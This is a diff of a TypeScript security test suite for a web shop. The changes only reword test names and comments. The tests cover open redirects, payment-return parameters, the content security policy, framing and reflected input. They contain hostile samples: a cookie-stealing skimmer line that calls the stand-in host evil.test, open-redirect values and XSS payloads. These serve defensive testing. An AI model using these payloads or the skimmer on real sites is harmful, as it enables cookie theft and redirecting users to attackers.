@@ -60,23 +60,24 @@ const elsewhere = [
 ]
 
 /**
- * True when a browser that gets this location stays in the shop; browsers read backslashes and tabs in their
- * own way.
+ * Returns whether a browser with this location stays in the shop; browsers interpret backslashes
+ * and tabs in their own way.
  */
 const isHere = (location: string | undefined, from = '/') =>
   location === undefined || URL.parse(location, new URL(from, here))?.origin === here
 
 describe('ATT-16: redirects stay in the shop', () => {
-  // Every place where a page redirects: prefix of the default store, pages of other stores, mapping, slugs, trailing parts.
+  // Every place where a page redirects: prefix of the default store, pages of other stores,
+  // mapping, slugs, trailing parts.
   const sources = ['/et/', '/et//', '/', '//', '/en/', '/ru/', '/en/p/CABLE/', '/en/c/', '/meist/', '/en/et/']
   const suffixes = ['/', '.data', '?url=//evil.test&returnUrl=//evil.test&next=//evil.test']
-  it.each(sources)('from %s whatever follows', async (source) => {
+  it.each(sources)('redirects from %s to the shop, whatever follows', async (source) => {
     const wrong: string[] = []
     for (const [index, tail] of elsewhere.entries())
       for (const suffix of ['', suffixes[index % suffixes.length] ?? '']) {
         const target = encodeTarget(source + tail + suffix)
         const { status, headers, body } = await shop.send(target)
-        // Redirects inside data are read by the router, which follows them as they stand.
+        // The router reads redirects inside data and follows them unchanged.
         const inData = /"SingleFetchRedirect"[^\]]*?"(\/[^"]*)"/.exec(body.toString())?.[1]
         const isWrong = status >= 500 || headers['set-cookie'] || !isHere(headers.location, target)
         if (isWrong || !isHere(inData && JSON.parse(`"${inData}"`)))
@@ -86,7 +87,7 @@ describe('ATT-16: redirects stay in the shop', () => {
   })
 
   it.each(['category', 'product', 'cms_page'])(
-    'when the mapping of addresses answers a hostile %s',
+    'redirects to the shop for a hostile %s of the URL map',
     async (type) => {
       const wrong: string[] = []
       for (const text of elsewhere.map(decoded)) {
@@ -102,14 +103,14 @@ describe('ATT-16: redirects stay in the shop', () => {
     },
   )
 
-  it('after a form was taken', async () => {
+  it('redirects to the shop after a form was submitted', async () => {
     for (const path of ['/en/newsletter', '//evil.test/newsletter', '/et//evil.test']) {
       const { headers } = await shop.send(path, { method: 'POST', headers: { origin: 'https://evil.test' } })
       expect(isHere(headers.location)).toBe(true)
     }
   })
 
-  it('when a payment provider sends the browser back', async () => {
+  it('redirects to the shop when a payment provider sends the browser back', async () => {
     for (const path of ['/api/neopay/return', '/api/mokilizingas/return'])
       for (const name of ['returnUrl', 'url', 'token', 'data', 'appl_token', 'order_id', 'status_url']) {
         const { headers } = await shop.send(`${path}?${name}=//evil.test`)
@@ -117,13 +118,13 @@ describe('ATT-16: redirects stay in the shop', () => {
       }
   })
 
-  it('keeps the parameters of campaigns on the way', async () => {
+  it('keeps the campaign parameters of a redirect', async () => {
     const { status, headers } = await shop.send('/en/p/CABLE/old-name?utm_source=mail')
     expect([status, headers.location]).toEqual([301, '/en/p/CABLE/cable?utm_source=mail'])
   })
 })
 
-/** The characters of a request line; others are encoded as a browser would. */
+/** Encodes characters that a request line cannot hold, as a browser would. */
 const encodeTarget = (target: string) => target.replace(/[\s<>"]/g, (sign) => encodeURIComponent(sign))
 
 function decoded(text: string): string {
@@ -141,7 +142,10 @@ const inlineScripts = (html: string) =>
     ([, code = '']) => code,
   )
 
-/** Elements and attributes that no page of the shop has; inside its own scripts and values they are text. */
+/**
+ * Returns elements and attributes that no page of the shop has; inside its own scripts and values
+ * they are text.
+ */
 function foreignTags(html: string): string[] {
   const tags = html.replace(/<script[^>]*>[\s\S]*?<\/script>/g, '').match(/<[!a-z/][^>]*>?/gi) ?? []
   return tags.filter((tag) => {
@@ -161,10 +165,10 @@ const pages = [
   '/en/error',
 ]
 
-describe('ATT-23: code that the server did not write', () => {
+describe('ATT-23: injected code', () => {
   const skimmer = 'fetch("//evil.test/"+document.cookie)'
 
-  it.each(pages)('of the page %s all inline code is named by its policy, and nothing more', async (page) => {
+  it.each(pages)('allows exactly the inline code of the page %s in its policy', async (page) => {
     const { headers, body } = await shop.send(page)
     const scripts = inlineScripts(body.toString())
     expect(scripts.length).toBeGreaterThan(3)
@@ -177,7 +181,7 @@ describe('ATT-23: code that the server did not write', () => {
   it.each([
     ['a page of content', '/en/about-us', 'content'],
     ['a description', '/en/p/CABLE/cable', 'description'],
-  ])('in %s gets no hash, though no sanitiser stopped it', async (_what, page, field) => {
+  ])('allows no injected code in %s, even without a sanitizer', async (_what, page, field) => {
     const html = `<p>x</p><script>${skimmer}</script><style>${skimmer}</style>`
     shop.disturb({ after: (_call, document) => withField(document, field, html) })
     const { headers, body } = await shop.send(page)
@@ -188,7 +192,7 @@ describe('ATT-23: code that the server did not write', () => {
   })
 })
 
-/** The document with this field of every object in it replaced. */
+/** Returns the document with this field of every object replaced. */
 function withField(document: unknown, field: string, html: string): unknown {
   return JSON.parse(JSON.stringify(document), (key, value) =>
     key === field && typeof value === 'string' ? html : value,
@@ -196,13 +200,13 @@ function withField(document: unknown, field: string, html: string): unknown {
 }
 
 describe('ATT-18: framing', () => {
-  it.each([...pages, '/en/order-completed', '/en/my-account'])('of %s is forbidden', async (page) => {
+  it.each([...pages, '/en/order-completed', '/en/my-account'])('forbids framing of %s', async (page) => {
     const { headers } = await shop.send(page)
     expect(policyOf(headers)).toContain("frame-ancestors 'none'")
   })
 })
 
-describe('ATT-4: what an address reflects', () => {
+describe('ATT-4: reflected input', () => {
   const payloads = [
     '"><script>alert(1)</script>',
     "'-alert(1)-'",
@@ -232,7 +236,7 @@ describe('ATT-4: what an address reflects', () => {
     (text: string) => `/en/offline?to=${text}`,
     (text: string) => `/en/newsletter/${text}/${text}`,
     (text: string) => `/en/search/suggest?q=${text}`,
-  ])('is text in the page: %s', async (addressOf) => {
+  ])('renders reflected input as text: %s', async (addressOf) => {
     const wrong: unknown[] = []
     for (const payload of payloads) {
       const target = addressOf(encodeURIComponent(payload))
